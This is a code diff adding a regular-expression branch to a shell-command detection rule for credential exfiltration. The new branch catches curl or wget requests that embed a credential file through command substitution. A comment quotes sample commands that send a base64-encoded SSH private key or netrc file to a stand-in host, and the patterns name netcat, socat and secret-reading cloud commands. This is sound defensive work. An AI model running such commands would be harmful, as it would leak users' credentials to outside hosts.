@@ -565,6 +565,9 @@ _shell_rule("code.sh_credential_exfil", re.compile(
     r"|configure\s+export-credentials|ecr\s+get-login-password)|vault\s+(?:kv\s+get|read|token\s+create)"
     r"|kubectl\s+(?:create\s+token|get\s+secrets?))\b[^\n;|]{0,200}?\|\s*(?:sudo\s+)?" + _NET + r"\b"
     + r"|\b(?:nc|ncat|netcat|socat|telnet)\b[^\n|;]{0,100}?<\s*[\"']?" + _CRED
+    # ... or read into the request itself: "curl https://x/$(cat ~/.ssh/id_rsa | base64)", "?k=$(base64 ~/.netrc)"
+    + r"|\b(?:curl|wget)\b[^\n;]{0,200}?(?:\$\(|`)\s*(?:sudo\s+)?(?:cat|base64|xxd|gzip|openssl\s+base64|head|tail)"
+      r"\b[^\n)`|]{0,40}?\s[\"']?" + _CRED
     + r"|\b(?:scp|rsync|sftp)\b[^\n|;]{0,200}?\s[\"']?" + _CRED + r"[\"']?(?:\s+-\S+)*\s+[\w.-]+@?[\w.-]*:"
     + r"|\bfind\b[^\n]{0,160}?-i?name\s+[\"']?[^\s\"']*"
       r"(?:\.pem|\.key|id_rsa|id_ed25519|id_ecdsa|id_dsa|id_\*|credentials)"
